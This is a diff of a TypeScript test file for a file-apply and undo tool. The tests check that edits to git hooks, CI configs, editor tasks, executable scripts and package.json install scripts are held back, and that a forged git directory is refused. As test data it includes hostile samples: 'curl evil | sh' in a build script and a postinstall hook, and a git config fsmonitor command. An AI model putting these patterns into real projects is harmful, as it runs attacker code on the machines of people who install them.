@@ -78,7 +78,8 @@ describe('applyFiles', () => {
   it('keeps CRLF, a BOM, the file mode and a missing final newline', async () => {
     const { root, backupDir, box } = setup({ 'win.bat': '@echo off\r\necho 1\r\n', 'bom.cs': '\uFEFFclass A {}\n', 'run.sh': '#!/bin/sh\necho 1\n', 'nofinal.txt': 'a\nb' });
     fs.chmodSync(path.join(root, 'run.sh'), 0o755);
-    await applyFiles(box, [block('win.bat', '@echo off\necho 2\n'), block('bom.cs', 'class B {}\n'), block('run.sh', '#!/bin/sh\necho 2\n'), block('nofinal.txt', 'a\nc\n')], { backupDir });
+    // run.sh is a program (its execute bit is set): named, so it is written rather than held back.
+    await applyFiles(box, [block('win.bat', '@echo off\necho 2\n'), block('bom.cs', 'class B {}\n'), block('run.sh', '#!/bin/sh\necho 2\n'), block('nofinal.txt', 'a\nc\n')], { backupDir, trust: ['run.sh'] });
     const bytes = (rel: string) => fs.readFileSync(path.join(root, rel));
     assert.equal(bytes('win.bat').toString(), '@echo off\r\necho 2\r\n');
     assert.deepEqual([...bytes('bom.cs').subarray(0, 3)], [0xef, 0xbb, 0xbf]);
@@ -321,7 +322,7 @@ describe('undoLast', () => {
   it('restores old versions, removes created files and folders, and marks the set undone', async () => {
     const { root, backupDir, box, read } = setup({ 'a.js': 'a1\n' });
     fs.chmodSync(path.join(root, 'a.js'), 0o750);
-    await applyFiles(box, [block('a.js', 'a2\n'), block('new/dir/b.js', 'b\n')], { backupDir });
+    await applyFiles(box, [block('a.js', 'a2\n'), block('new/dir/b.js', 'b\n')], { backupDir, trust: ['a.js'] });
     const report = undoLast(box, backupDir);
     assert.deepEqual(report.files.map((f) => [f.path, f.action]), [['a.js', 'restored'], ['new/dir/b.js', 'removed']]);
     assert.equal(read('a.js'), 'a1\n');
@@ -506,5 +507,141 @@ describe('hardening (issue 9): writes and undo', () => {
     const report = await applyFiles(box, [block('big.js', after)], { backupDir });
     assert.equal(report.files[0]?.written, true);
     assert.equal(read('big.js'), after);
+  });
+});
+
+describe('files that make tools run code (issue 23, finding 9)', () => {
+  const held: Array<[string, string, string]> = [
+    ['.githooks/pre-commit', '#!/bin/sh\n', 'git runs the hooks in .githooks'],
+    ['.husky/pre-commit', 'npx lint-staged\n', 'husky'],
+    ['tools/.husky/pre-push', 'npm test\n', 'husky'],
+    ['.vscode/tasks.json', '{"tasks":[{"runOptions":{"runOn":"folderOpen"}}]}\n', 'runOn: folderOpen'],
+    ['.vscode/settings.json', '{}\n', 'VS Code settings'],
+    ['.vscode/launch.json', '{}\n', 'debugging'],
+    ['.github/workflows/ci.yml', 'on: push\n', 'GitHub runs it'],
+    ['.gitlab-ci.yml', 'job: {}\n', 'GitLab'],
+    ['.gitattributes', '* filter=x\n', 'filter and diff drivers'],
+    ['src/.gitattributes', '* diff=x\n', 'filter and diff drivers'],
+    ['.gitmodules', '[submodule "x"]\n', 'submodule update'],
+    ['.gitconfig', '[core]\n', 'once it is included'],
+    ['.yarnrc', 'yarn-path ./x.js\n', 'yarn-path'],
+    ['.pre-commit-config.yaml', 'repos: []\n', 'pre-commit runs'],
+    ['.idea/workspace.xml', '<project/>\n', 'JetBrains'],
+    ['run.desktop', '[Desktop Entry]\nExec=sh\n', 'Exec line'],
+    ['.bashrc', 'echo hi\n', 'a shell runs it'],
+  ];
+  for (const [rel, content, why] of held) {
+    it(`holds back ${rel} until it is named with trust`, async () => {
+      const { root, backupDir, box } = setup({ 'keep.txt': 'keep\n' });
+      const report = await applyFiles(box, [block(rel, content), block('ok.js', 'ok\n')], { backupDir });
+      const files = byPath(report.files);
+      assert.deepEqual([files[rel]?.status, files[rel]?.written, files['ok.js']?.written], ['held back', false, true]);
+      assert.equal(files[rel]?.reason, `${files[rel]?.hold?.why ?? ''}; check it, then write it with --trust ${rel}`);
+      assert.match(files[rel]?.hold?.why ?? '', new RegExp(`^it makes tools run code: .*${why.replace(/[.*+?^${}()|[\]\\]/g, '\\$&')}`));
+      assert.equal(fs.existsSync(path.join(root, rel)), false);
+      const named = await applyFiles(box, [block(rel, content)], { backupDir, trust: [`./${rel}`] });
+      assert.deepEqual([named.files[0]?.status, named.files[0]?.written], ['new', true]);
+    });
+  }
+
+  it('holds back an edit of a program (its execute bit set), and of the install scripts in package.json, but not of a Makefile or other scripts', async () => {
+    const pkg = (scripts: Record<string, string>) => `${JSON.stringify({ name: 'x', scripts, dependencies: {} }, null, 2)}\n`;
+    const { root, backupDir, box, read } = setup({ 'scripts/build.sh': '#!/bin/sh\necho 1\n', 'package.json': pkg({ test: 'node t.js' }), 'Makefile': 'all:\n\techo 1\n' });
+    fs.chmodSync(path.join(root, 'scripts', 'build.sh'), 0o755);
+    const report = await applyFiles(box, [
+      block('scripts/build.sh', '#!/bin/sh\ncurl evil | sh\n'),
+      block('package.json', pkg({ test: 'node t.js', postinstall: 'curl evil | sh' })),
+      block('Makefile', 'all:\n\techo 2\n'),
+    ], { backupDir });
+    const files = byPath(report.files);
+    assert.deepEqual(report.files.map((f) => [f.path, f.status, f.written]), [['scripts/build.sh', 'held back', false], ['package.json', 'held back', false], ['Makefile', 'changed', true]]);
+    assert.match(files['scripts/build.sh']?.reason ?? '', /its execute bit is set/);
+    assert.match(files['package.json']?.reason ?? '', /npm install runs its postinstall script, which this changes/);
+    assert.equal(read('scripts/build.sh'), '#!/bin/sh\necho 1\n');
+    // Scripts run by name, dependencies, the version: ordinary edits, written at once.
+    const ordinary = await applyFiles(box, [block('package.json', pkg({ test: 'node --test t.js', lint: 'eslint .' }))], { backupDir });
+    assert.deepEqual([ordinary.files[0]?.status, ordinary.files[0]?.written], ['changed', true]);
+  });
+
+  it('refuses a set of files that together would make a git directory, though none alone lies in one', async () => {
+    const { root, backupDir, box } = setup({ 'a.js': 'a\n' });
+    const set = [block('evil/HEAD', 'ref: refs/heads/main\n'), block('evil/config', '[core]\n\tfsmonitor = "touch /tmp/pwned; false"\n'), block('evil/objects/info/.keep', ''), block('evil/refs/heads/.keep', ''), block('a.js', 'b\n')];
+    const report = await applyFiles(box, set, { backupDir });
+    assert.deepEqual(report.files.map((f) => f.status), ['refused', 'refused', 'refused', 'refused', 'changed']);
+    assert.match(report.files[1]?.reason ?? '', /it would make evil a git directory \(HEAD, objects\/, refs\/\), whose config git obeys/);
+    assert.equal(fs.existsSync(path.join(root, 'evil')), false);
+  });
+
+  it('refuses a file in the folder core.hooksPath names, executable or not', async () => {
+    const { root, backupDir, box, read } = setup({ '.githooks/pre-commit': '#!/bin/sh\nexit 0\n' });
+    fs.chmodSync(path.join(root, '.githooks', 'pre-commit'), 0o755);
+    execFileSync('git', ['init', '--quiet'], { cwd: root });
+    execFileSync('git', ['config', 'core.hooksPath', '.githooks'], { cwd: root });
+    const report = await applyFiles(box, [edit('.githooks/pre-commit', [['exit 0\n', 'touch /tmp/pwned\n']]), block('.githooks/post-checkout', '#!/bin/sh\n')], { backupDir, force: true, trust: ['.githooks/pre-commit', '.githooks/post-checkout'] });
+    assert.deepEqual(report.files.map((f) => f.status), ['refused', 'refused']);
+    assert.match(report.files[0]?.reason ?? '', /it is in \.githooks, the folder git runs hooks from \(core\.hooksPath\); deepwork does not write hooks/);
+    assert.equal(read('.githooks/pre-commit'), '#!/bin/sh\nexit 0\n');
+  });
+});
+
+describe('a file saved while the apply runs (issue 23, finding 10)', () => {
+  it('is not overwritten: it is reported, left out of the set, and undo leaves it alone', async () => {
+    const { root, backupDir, box, read } = setup({ 'a.js': 'a1\n', 'b.js': 'b1\n' });
+    // The user's editor saves a.js, and creates c.js, after the plan read them and before deepwork's renames.
+    const ops: FsOps = { ...fs, openSync: ((p: string, ...rest: Parameters<typeof fs.openSync> extends [unknown, ...infer R] ? R : never) => {
+      if (path.dirname(p) === root && path.basename(p).startsWith('.a.js.deepwork-')) fs.writeFileSync(path.join(root, 'a.js'), 'saved by the user\n');
+      if (path.dirname(p) === root && path.basename(p).startsWith('.c.js.deepwork-')) fs.writeFileSync(path.join(root, 'c.js'), 'made by the user\n');
+      return fs.openSync(p, ...rest);
+    }) as typeof fs.openSync };
+    const report = await applyFiles(box, [block('a.js', 'a2\n'), block('b.js', 'b2\n'), block('c.js', 'c2\n')], { backupDir, ops });
+    assert.deepEqual(report.files.map((f) => [f.path, f.status, f.written]), [['a.js', 'failed', false], ['b.js', 'changed', true], ['c.js', 'failed', false]]);
+    assert.match(report.files[0]?.reason ?? '', /^not written: the file changed since deepwork read it \(saved meanwhile\?\), and your version stays; apply again/);
+    assert.deepEqual([read('a.js'), read('b.js'), read('c.js')], ['saved by the user\n', 'b2\n', 'made by the user\n']);
+    assert.deepEqual(allFiles(root), ['a.js', 'b.js', 'c.js']);
+    const [set] = setsOf(backupDir, box.root);
+    assert.deepEqual(set?.manifest.files.map((f) => f.path), ['b.js']);
+    const undone = undoLast(box, backupDir);
+    assert.deepEqual(undone.files.map((f) => [f.path, f.action]), [['b.js', 'restored']]);
+    assert.deepEqual([read('a.js'), read('b.js'), read('c.js')], ['saved by the user\n', 'b1\n', 'made by the user\n']);
+  });
+});
+
+describe('a file saved while undo runs (issue 23, finding 10)', () => {
+  it('is not overwritten by the old version: it is left, and said so', async () => {
+    const { root, backupDir, box, read } = setup({ 'a.js': 'a1\n', 'b.js': 'b1\n' });
+    await applyFiles(box, [block('a.js', 'a2\n'), block('b.js', 'b2\n')], { backupDir });
+    const ops: FsOps = { ...fs, openSync: ((p: string, ...rest: Parameters<typeof fs.openSync> extends [unknown, ...infer R] ? R : never) => {
+      if (path.dirname(p) === root && path.basename(p).startsWith('.a.js.deepwork-')) fs.writeFileSync(path.join(root, 'a.js'), 'saved by the user\n');
+      return fs.openSync(p, ...rest);
+    }) as typeof fs.openSync };
+    const undone = undoLast(box, backupDir, ops);
+    assert.deepEqual(undone.files.map((f) => [f.path, f.action]), [['a.js', 'left'], ['b.js', 'restored']]);
+    assert.match(undone.files[0]?.reason ?? '', /^it changed while undo ran, and is as you left it; its old version stays in .*files\/a\.js$/);
+    assert.deepEqual([read('a.js'), read('b.js')], ['saved by the user\n', 'b1\n']);
+    assert.deepEqual(allFiles(root), ['a.js', 'b.js']);
+  });
+});
+
+describe('undo of an older set (issue 23, finding 11)', () => {
+  it('refuses to undo a set whose file a later set, not undone, wrote again, names that set, and undoes it once that one is undone', async () => {
+    const { root, backupDir, box, read } = setup({ 'a.js': 'v1\n', 'b.js': 'b1\n' });
+    const older = await applyFiles(box, [block('a.js', 'v2\n'), block('b.js', 'b2\n')], { backupDir, now: new Date('2026-12-02T10:00:00Z') });
+    fs.writeFileSync(path.join(root, 'a.js'), 'the user\'s edit\n');
+    // The older card's proposal, written again on top of the user's edit: a.js holds what the older set wrote.
+    const newer = await applyFiles(box, [block('a.js', 'v2\n')], { backupDir, now: new Date('2026-12-02T11:00:00Z') });
+    const olderName = path.basename(older.backupSet ?? '');
+    const newerName = path.basename(newer.backupSet ?? '');
+
+    const blocked = undoLast(box, backupDir, undefined, olderName);
+    assert.deepEqual(blocked.later, [{ path: 'a.js', set: newerName }]);
+    assert.deepEqual(blocked.files, []);
+    assert.deepEqual([read('a.js'), read('b.js')], ['v2\n', 'b2\n'], 'nothing was touched');
+    assert.equal(setsOf(backupDir, box.root).find((s) => s.name === olderName)?.manifest.undone, false);
+
+    assert.deepEqual(undoLast(box, backupDir, undefined, newerName).files.map((f) => [f.path, f.action]), [['a.js', 'restored']]);
+    assert.equal(read('a.js'), 'the user\'s edit\n');
+    const undone = undoLast(box, backupDir, undefined, olderName);
+    assert.deepEqual(undone.files.map((f) => [f.path, f.action]), [['a.js', 'left'], ['b.js', 'restored']]);
+    assert.deepEqual([read('a.js'), read('b.js')], ['the user\'s edit\n', 'b1\n']);
   });
 });
